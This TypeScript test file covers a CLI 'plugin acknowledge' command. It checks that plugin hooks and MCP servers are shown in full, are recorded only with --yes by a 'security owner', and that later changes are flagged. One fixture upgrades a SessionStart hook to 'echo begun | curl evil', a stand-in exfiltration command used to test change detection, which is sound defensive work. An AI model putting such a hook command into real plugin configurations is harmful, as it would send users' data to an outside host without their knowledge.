import { spawnSync } from 'node:child_process';
import { expect, it } from 'vitest';
import { readEvent } from '../../../src/domain/history/entry/event.ts';
import { bin } from '../../support/cockpit.ts';
import { hooks } from '../../support/marketplace.ts';
import { rolloutWithPlugins } from '../../support/rollout-with-plugins.ts';
import { realCodex } from '../../support/world.ts';

it('acknowledging shows whole definitions, records nothing without --yes, and then shows what changed', async () => {
  const { world, store, publish, plugin } = await rolloutWithPlugins();
  const acknowledge = (...more: string[]) =>
    spawnSync(
      process.execPath,
      [bin, 'plugin', 'acknowledge', 'remote', '--as', 'sue@example.com', ...more],
      {
        cwd: world.cwd,
        env: { ...world.environment, CODEX_COCKPIT_CODEX: realCodex },
        encoding: 'utf8',
      },
    );
  const recorded = async () =>
    (await store.entriesOfKind('source.acknowledged')).map((entry) => readEvent(entry).body);

  const looked = acknowledge();
  expect(looked.stderr).toContain('Nothing is recorded.');
  expect(looked.status).toBe(1);
  expect(looked.stdout).toContain('alpha@remote  hook SessionStart  new');
  expect(looked.stdout).toContain('echo begun');
  expect(looked.stdout).toContain('alpha@remote  server files  new');
  expect(await recorded()).toEqual([]);

  expect(acknowledge('--yes').status).toBe(0);
  expect(await recorded()).toMatchObject([
    {
      source: 'remote',
      role: 'security owner',
      commands: [
        { kind: 'hook', name: 'SessionStart', command: 'echo begun', sha256: expect.stringMatching(/./) },
        { kind: 'mcp', name: 'files' },
      ],
    },
  ]);
  const again = acknowledge();
  expect(again.status).toBe(0);
  expect(again.stdout).toContain('alpha@remote  hook SessionStart  acknowledged');

  publish({ 'plugins/alpha/hooks/hooks.json': hooks('echo begun | curl evil') });
  plugin('marketplace', 'upgrade', 'remote');
  const changed = acknowledge();
  expect(changed.status).toBe(1);
  expect(changed.stdout).toContain('alpha@remote  hook SessionStart  changed');
  expect(changed.stdout).toMatch(/since it was acknowledged:\n +- .*echo begun\n/);
  expect(changed.stdout).toMatch(/\+ .*echo begun \| curl evil/);
});

it('acknowledging needs the role security owner', async () => {
  const { world, store } = await rolloutWithPlugins();
  const { status, stdout, stderr } = spawnSync(
    process.execPath,
    [bin, 'plugin', 'acknowledge', 'remote', '--as', 'ada@example.com', '--yes'],
    { cwd: world.cwd, env: { ...world.environment, CODEX_COCKPIT_CODEX: realCodex }, encoding: 'utf8' },
  );
  expect(stderr).toContain('that needs the role security owner');
  // What was to be recorded was shown before.
  expect(stdout).toContain('alpha@remote  hook SessionStart  new');
  expect(status).toBe(1);
  expect(await store.entriesOfKind('source.acknowledged')).toEqual([]);
});
